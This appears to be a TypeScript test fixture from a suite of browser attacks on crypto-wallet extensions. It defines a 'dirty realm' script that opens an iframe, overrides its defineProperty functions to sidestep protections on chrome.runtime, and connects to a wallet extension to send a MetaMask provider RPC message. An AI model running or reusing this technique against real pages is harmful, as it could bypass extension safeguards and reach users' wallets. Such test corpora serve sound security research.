import type { Attack } from '../Attack.ts';

/** A realm that the page made first has functions nobody of ours has touched. */
export const attack: Attack = {
  entry: 'chrome.runtime.connect',
  mechanism: 'dirty realm: natives of a frame kept over its navigation',
  discovers: false,
  script: `
const frame = kit.frame({ src: '/blank.html' });
const realm = frame.contentWindow;
const { defineProperty } = realm.Object;
realm.Reflect.defineProperty = realm.Object.defineProperty = (target, key, descriptor) => (target === realm.chrome || target === realm.chrome?.runtime ? target : defineProperty(target, key, descriptor));
await new Promise((go) => { frame.onload = go; });
const connect = realm.chrome?.runtime?.connect ?? chrome.runtime.connect;
connect(kit.walletId).postMessage({ name: 'metamask-provider', data: kit.rpc(kit.send()) });
`,
  known: 'chrome.runtime.connect from a dirty realm: no extension can stand before it.',
};
